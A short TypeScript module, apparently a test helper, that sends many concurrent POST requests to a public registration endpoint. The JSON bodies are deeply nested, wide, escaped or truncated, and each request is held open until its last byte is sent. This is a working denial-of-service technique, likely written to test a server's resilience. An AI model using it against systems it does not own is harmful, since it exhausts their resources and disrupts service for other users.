import { once } from 'node:events'
import { Agent, request } from 'node:http'

/** Bodies that cost a server most: nested as deeply as fits, wide, escaped, cut off. */
const costlyBodies: readonly string[] = [
  '['.repeat(124_000) + ']'.repeat(124_000),
  '{"a":'.repeat(40_000) + '1' + '}'.repeat(40_000),
  `[${'[],'.repeat(80_000)}[]]`,
  `{"brNo":"${'\\u0000'.repeat(40_000)}"}`,
  `{"brNo":${'[1,'.repeat(60_000)} `,
]

/** A request that has been sent but for its last byte. */
export type HeldRequest = {
  /** Sends the last byte, and returns the status of the response. */
  finish(): Promise<number>
}

/** Sends so many of them at once, all but the last byte, to a call that is open to everyone. */
export function sendCostlyBodies(address: string, count: number): HeldRequest[] {
  const agent = new Agent({ maxSockets: count })
  return Array.from({ length: count }, (_, place) => {
    const body = costlyBodies[place % costlyBodies.length] ?? ''
    const headers = { 'content-type': 'application/json', 'content-length': body.length }
    const url = `${address}/api/v1/business/first/register`
    const sending = request(url, { method: 'POST', headers, agent })
    sending.write(body.slice(0, -1))
    return { finish: () => statusOf(sending.end(body.slice(-1))) }
  })
}

async function statusOf(sending: ReturnType<typeof request>): Promise<number> {
  const [response] = await once(sending, 'response')
  response.resume()
  return response.statusCode
}
